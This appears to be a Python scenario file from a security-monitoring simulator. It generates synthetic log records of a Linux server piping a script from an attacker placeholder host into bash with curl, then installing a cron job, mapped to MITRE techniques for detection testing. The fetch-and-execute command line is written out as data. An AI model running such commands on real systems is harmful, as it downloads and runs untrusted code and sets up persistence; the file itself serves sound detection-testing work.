"""A script fetched and run in one line, then kept by cron."""

from __future__ import annotations

from collections.abc import Iterator

from soc.simulate import unix_records as unix
from soc.simulate.record import Draft
from soc.simulate.scenarios.stage import ATTACKER, Scenario, Stage

SCENARIO = Scenario(
    name="linux-download",
    title="curl piped into bash on a Linux server, kept by cron",
    title_vi="Tải tập lệnh bằng curl rồi chạy ngay, cài vào cron",
    techniques=("T1059.004", "T1105", "T1053.003"),
    on="APP",
    hour=4,
    expects=(
        "9a196d0c-c625-5c17-8383-d4c5dc02943e",
        "d1982765-2b23-5673-bc4a-8ecf62fe05f0",
        "d90bad8b-0e5c-5536-9f3a-0aa21266ff03",
    ),
)
URL = f"http://{ATTACKER}/cai-dat.sh"


def play(stage: Stage) -> Iterator[Draft]:
    """The shell, the fetch, and the cron job."""
    server = stage.machine("APP")
    acts = (
        (("bash", "-c", f"curl -fsSL {URL} | bash"), "/usr/bin/bash"),
        (("curl", "-fsSL", URL), "/usr/bin/curl"),
        (("crontab", "-"), "/usr/bin/crontab"),
    )
    for turn, (arguments, executable) in enumerate(acts):
        yield unix.executed(
            stage.after(turn * 3), server, arguments,
            executable=executable, parent="/usr/bin/bash", pid=41_000 + turn,
        )  # fmt: skip
